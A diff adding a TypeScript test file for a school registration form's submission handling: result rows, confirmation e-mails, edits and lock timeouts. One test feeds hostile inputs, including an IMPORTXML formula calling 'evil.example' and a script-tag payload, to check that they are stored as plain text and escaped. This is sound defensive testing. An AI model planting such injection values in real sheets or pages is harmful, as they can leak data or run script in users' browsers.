@@ -1,0 +1,162 @@
+// A school's submission through the bundle: the response tab, the results row, the confirmation e-mail.
+import { simpleParser } from 'mailparser';
+import { describe, expect, it } from 'vitest';
+import { Q, initiativeTitles } from '../../src/core/registration-form';
+import { SCHOOLS, collectiveAnswers, individualAnswers, officeAfterSetup } from './helpers';
+
+const RESULTS = 'Kết quả kiểm tra';
+const OUTBOX = 'Hộp thư đi';
+
+function column(values: unknown[][], header: string): unknown[] {
+  const i = (values[0] as string[]).indexOf(header);
+  if (i < 0) throw new Error(`no column ${header}`);
+  return values.slice(1).map((r) => r[i]);
+}
+
+describe('on form submit', () => {
+  it('a submission reaches its tab, its result row and the submitter’s e-mail', () => {
+    const { emu, formId } = officeAfterSetup();
+    const email = SCHOOLS[0].emails[0];
+    emu.forms.submitAsUser(formId, collectiveAnswers(), { email });
+    expect(emu.spreadsheets.values('Phiếu đăng ký')).toHaveLength(2);
+    const results = emu.spreadsheets.values(RESULTS);
+    expect(results).toHaveLength(2);
+    expect(column(results, 'Mã phiếu')).toEqual(['DK-000002']);
+    expect(column(results, 'Đơn vị')).toEqual([SCHOOLS[0].name]);
+    expect(column(results, 'Kết luận')).toEqual(['Đạt']);
+    const mails = emu.mail.to(email);
+    expect(mails).toHaveLength(1);
+    expect(mails[0].subject).toContain('DK-000002');
+    expect(mails[0].body).toContain('Kết quả kiểm tra tự động: Đạt.');
+    expect(mails[0].body).toMatch(/https:\/\/docs\.google\.com\/forms\/d\/e\/.+edit2=/);
+    expect(column(emu.spreadsheets.values(OUTBOX), 'Trạng thái')).toEqual(['Đã gửi']);
+  });
+
+  it('says what is missing, and an edited response updates the same registration', () => {
+    const { emu, formId } = officeAfterSetup();
+    const email = SCHOOLS[1].emails[0];
+    const incomplete = { ...individualAnswers('teacher'), [Q.school]: SCHOOLS[1].name, [initiativeTitles(1).decision]: '' };
+    const first = emu.forms.submitAsUser(formId, incomplete, { email });
+    let results = emu.spreadsheets.values(RESULTS);
+    expect(column(results, 'Kết luận')).toEqual(['Cần bổ sung']);
+    expect(String(column(results, 'Cần khắc phục')[0])).toContain(initiativeTitles(1).decision);
+    expect(emu.mail.to(email)[0].body).toContain(initiativeTitles(1).decision);
+
+    emu.clock.advance(3600_000);
+    emu.forms.submitAsUser(formId, { ...incomplete, [initiativeTitles(1).decision]: '77/QĐ-PGDĐT' }, { email, editResponseId: first.responseId });
+    results = emu.spreadsheets.values(RESULTS);
+    expect(column(results, 'Mã phiếu')).toEqual(['DK-000002']);
+    expect(column(results, 'Kết luận')).toEqual(['Đạt']);
+    const mails = emu.mail.to(email);
+    expect(mails).toHaveLength(2);
+    expect(mails[1].body).toContain('Đạt');
+  });
+
+  it('keeps and flags a submission from an e-mail not in the directory', () => {
+    const { emu, formId } = officeAfterSetup();
+    emu.forms.submitAsUser(formId, collectiveAnswers(), { email: 'nguoi.la@gmail.example' });
+    const results = emu.spreadsheets.values(RESULTS);
+    expect(results).toHaveLength(2);
+    expect(String(column(results, 'Ghi chú')[0])).toContain('Chưa xác minh');
+    expect(emu.mail.to('nguoi.la@gmail.example')[0].body).toContain('chưa xác minh');
+  });
+
+  it('ignores the blank duplicate event, and a trigger fired twice sends nothing twice', () => {
+    const { emu, bundle, formId } = officeAfterSetup();
+    emu.forms.submitAsUser(formId, collectiveAnswers(), { email: SCHOOLS[0].emails[0] });
+    emu.forms.fireBlankEvent(formId);
+    bundle.call('rebuildSummaries', undefined, { kind: 'timeTrigger' });
+    expect(emu.mail.sent).toHaveLength(1);
+    expect(emu.spreadsheets.values(RESULTS)).toHaveLength(2);
+  });
+
+  it('stores and shows hostile answers as plain text, and escapes them in the e-mail', async () => {
+    const { emu, formId } = officeAfterSetup();
+    const email = SCHOOLS[2].emails[0];
+    const hostile = [
+      '=IMPORTXML("http://evil.example/x","//a")',
+      '+84912345678',
+      '-1+2',
+      '@SUM(A1)',
+      '<script>alert(1)</script><b>đậm</b>',
+      'Tổ Toán 🎉 \u202Eabc\u202C',
+      'Nguye\u0302\u0303n Tho\u0323 Ho\u0300a',
+    ];
+    const answers = {
+      ...collectiveAnswers(),
+      [Q.school]: SCHOOLS[2].name,
+      [Q.collectiveName]: hostile[0],
+      [Q.submitter]: hostile[4],
+      [Q.modelName]: hostile.join(' | '),
+      [Q.summary]: 'x'.repeat(10_000),
+      [Q.phone]: hostile[1],
+    };
+    emu.forms.submitAsUser(formId, answers, { email });
+    const sheet = emu.spreadsheets.sheet(RESULTS)!;
+    const values = emu.spreadsheets.values(RESULTS);
+    for (let r = 1; r <= values.length; r++) {
+      for (let c = 1; c <= values[0].length; c++) expect(sheet.cell(r, c)?.formula ?? '').toBe('');
+    }
+    const names = column(values, 'Tên tập thể / cá nhân');
+    expect(names[0]).toBe(hostile[0]);
+    expect(String(column(values, 'Tên mô hình')[0])).toContain('<script>');
+    const [mail] = emu.mail.to(email);
+    expect(mail.htmlBody).not.toContain('<script>');
+    expect(mail.htmlBody).toContain('&lt;script&gt;');
+    const parsed = await simpleParser(await emu.mail.toEml(mail));
+    expect(parsed.text).toContain('<script>alert(1)</script>');
+    expect(parsed.html || '').not.toMatch(/<script>|<b>đậm/);
+  });
+
+  it('answers on the page the branching skips are not recorded', () => {
+    const { emu, formId } = officeAfterSetup();
+    emu.forms.submitAsUser(formId, { ...collectiveAnswers(), [Q.individualName]: 'bị bỏ qua' }, { email: SCHOOLS[0].emails[0] });
+    const rows = emu.spreadsheets.values('Phiếu đăng ký');
+    expect(column(rows, Q.individualName)).toEqual(['']);
+    expect(column(rows, Q.collectiveName)).toEqual([collectiveAnswers()[Q.collectiveName]]);
+  });
+
+  it('50 submissions arriving while a run holds the lock all end up validated and answered once', () => {
+    const { emu, formId } = officeAfterSetup(SCHOOLS, { modelLatency: true });
+    const names = Array.from({ length: 50 }, (_, i) => `Tổ chuyên môn số ${i + 1}`);
+    const submit = (i: number) =>
+      emu.forms.submitAsUser(formId, { ...collectiveAnswers(), [Q.school]: SCHOOLS[i % 3].name, [Q.collectiveName]: names[i] }, { email: SCHOOLS[i % 3].emails[0] });
+    // The first submission's trigger takes the lock; the other 49 arrive during its run, one per service call,
+    // and their triggers wait for the lock.
+    for (let i = 1; i < 50; i++) emu.runtime.interleave(() => submit(i), { afterCalls: 3 + i });
+    submit(0);
+    const runs = emu.triggers.runs.filter((r) => r.handler === 'onFormSubmit');
+    expect(runs).toHaveLength(50);
+    expect(runs.filter((r) => r.deferred)).toHaveLength(49);
+    // Queued behind one another, the last ones may wait past waitLock's 30 s and give up, as in Apps Script;
+    // the runs before them have already validated and answered every row.
+    const failed = runs.filter((r) => !r.ok);
+    for (const r of failed) expect(r.error).toMatch(/Lock timeout/);
+    const results = emu.spreadsheets.values(RESULTS);
+    expect(column(results, 'Tên tập thể / cá nhân').sort()).toEqual([...names].sort());
+    expect(emu.mail.sent).toHaveLength(50);
+    expect(new Set(emu.mail.sent.map((m) => m.subject)).size).toBe(50);
+  });
+
+  it('a run that could not get the lock leaves a visible trace, and the next rebuild catches it up', () => {
+    const { emu, bundle, formId } = officeAfterSetup();
+    emu.forms.submitAsUser(formId, collectiveAnswers(), { email: SCHOOLS[0].emails[0] });
+    // While a slow rebuild holds the lock for over 30 s, a school submits; its trigger gives up waiting.
+    emu.runtime.interleave(() => {
+      emu.forms.submitAsUser(formId, { ...individualAnswers('teacher'), [Q.school]: SCHOOLS[1].name }, { email: SCHOOLS[1].emails[0] });
+      emu.clock.advance(45_000);
+    }, { afterCalls: 30 });
+    bundle.call('rebuildSummaries', undefined, { kind: 'menu' });
+    const failed = emu.triggers.runs.filter((r) => !r.ok);
+    expect(failed.map((r) => r.error)).toEqual(['Lock timeout: another process was holding the lock for too long.']);
+    const log = emu.spreadsheets.values('Nhật ký lỗi');
+    expect(String(log[1][2])).toContain('Lock timeout');
+    expect(emu.spreadsheets.values('Tình trạng').some((r) => r[0] === 'Kiểm tra khi có phiếu mới' && r[2] === 'Lỗi')).toBe(true);
+    expect(emu.mail.to(SCHOOLS[1].emails[0])).toHaveLength(0);
+
+    emu.triggers.runDueTimeTriggers(new Date(emu.clock.now() + 24 * 3600_000));
+    expect(emu.spreadsheets.values(RESULTS)).toHaveLength(3);
+    expect(emu.mail.to(SCHOOLS[1].emails[0])).toHaveLength(1);
+    expect(emu.mail.to(SCHOOLS[0].emails[0])).toHaveLength(1);
+  });
+});
